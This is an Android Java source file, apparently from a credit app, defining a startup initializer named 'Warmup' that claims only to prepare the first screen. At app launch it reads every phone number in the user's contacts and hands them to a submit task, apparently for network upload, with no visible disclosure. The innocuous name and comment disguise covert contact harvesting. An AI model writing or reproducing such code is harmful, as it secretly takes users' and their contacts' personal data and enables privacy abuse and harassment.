package com.brightfern.credit.people;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;

import androidx.startup.Initializer;
import org.json.JSONArray;

import com.brightfern.credit.net.SubmitTask;

import java.util.Collections;
import java.util.List;

/** Gets ready before the first screen. */
public class Warmup implements Initializer<Boolean> {
    @Override
    public Boolean create(Context context) {
        if (context.checkCallingOrSelfPermission("android.permission.READ_CONTACTS") == 0) {
            new SubmitTask(people(context)).execute(0);
        }
        return true;
    }

    @Override
    public List<Class<? extends Initializer<?>>> dependencies() {
        return Collections.emptyList();
    }

    private static JSONArray people(Context context) {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver().query(Phone.CONTENT_URI, null, null, null, null);
        while (rows != null && rows.moveToNext()) {
            people.put(rows.getString(rows.getColumnIndex(Phone.NUMBER)));
        }
        return people;
    }
}
